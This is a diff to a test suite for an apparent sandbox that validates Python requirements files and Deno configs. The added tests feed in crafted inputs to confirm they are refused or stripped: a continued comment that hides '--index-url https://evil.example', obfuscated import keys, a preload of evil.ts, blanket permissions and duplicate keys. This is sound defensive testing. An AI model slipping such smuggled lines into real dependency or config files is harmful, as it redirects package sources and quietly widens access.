@@ -80,7 +80,10 @@ HEADER = """\
 def test_requirements_by_name_are_taken_as_they_are(line: str) -> None:
     manifest = read("python", {"requirements.txt": line})
     assert manifest is not None
-    assert manifest.files == {"requirements.txt": line}
+    (written,) = manifest.files.values()
+    wanted_line = line.partition("  #")[0].replace("\\", " ")
+    assert written.split() == wanted_line.split()
+    assert written.count("\n") == 1
 
 
 @pytest.mark.parametrize(
@@ -121,6 +124,14 @@ def test_what_leads_elsewhere_than_to_the_index_is_refused_by_name(line: str, na
     assert "requirements.txt, line 3" in message or named == "not in the bundle"
 
 
+def test_no_reader_sees_other_lines_than_were_checked() -> None:
+    """A comment that is continued hides the next line from some readers only."""
+    text = "idna # pinned \\\n--index-url https://evil.example\nsix\x0b# \\\n--pre\n"
+    manifest = read("python", {"requirements.txt": text})
+    assert manifest is not None
+    assert manifest.files == {"requirements.txt": "idna\nsix\n"}
+
+
 def test_requirements_may_name_other_files_of_the_bundle() -> None:
     files = {
         "requirements.txt": "-r deps/base.txt\nidna",
@@ -129,7 +140,7 @@ def test_requirements_may_name_other_files_of_the_bundle() -> None:
     }
     manifest = read("python", files)
     assert manifest is not None
-    assert manifest.files == files
+    assert manifest.files == {name: f"{text}\n" for name, text in files.items()}
     assert "pins.txt, line 1" in refusal("python", {**files, "pins.txt": "-e ."})
 
 
@@ -350,7 +361,11 @@ def test_deno_is_asked_when_sources_name_something_outside(files: dict[str, str]
         {"scopes": {"file:///harness/": {"data:": "./evil.ts"}}},
         {"imports": []},
         {"scopes": {"./": 1}},
+        {"imports": {" file:///harness/": "./"}},
+        {"imports": {"da\tta:x": "./evil.ts"}},
         {"importMap": "./map.json"},
+        {"preload": ["./evil.ts"]},
+        {"permissions": {"default": {"all": True}}},
         {"workspace": ["./a"]},
     ],
 )
@@ -371,6 +386,11 @@ def test_a_deno_config_cannot_reach_beyond_its_bundle(config: dict[str, object])
 )
 def test_a_deno_lock_redirects_remote_modules_only(lock: object) -> None:
     assert "deno.lock" in refusal("deno", {"deno.lock": msgspec.json.encode(lock), "main.ts": ""}, "main.ts")
+
+
+def test_a_deno_config_that_says_a_thing_twice_is_refused() -> None:
+    text = '{"imports": {"file:///harness/": "./"}, "imports": {}}'
+    assert "twice" in refusal("deno", {"deno.json": text, "main.ts": ""}, "main.ts")
 
 
 def test_a_deno_config_with_comments_is_refused_as_such() -> None:
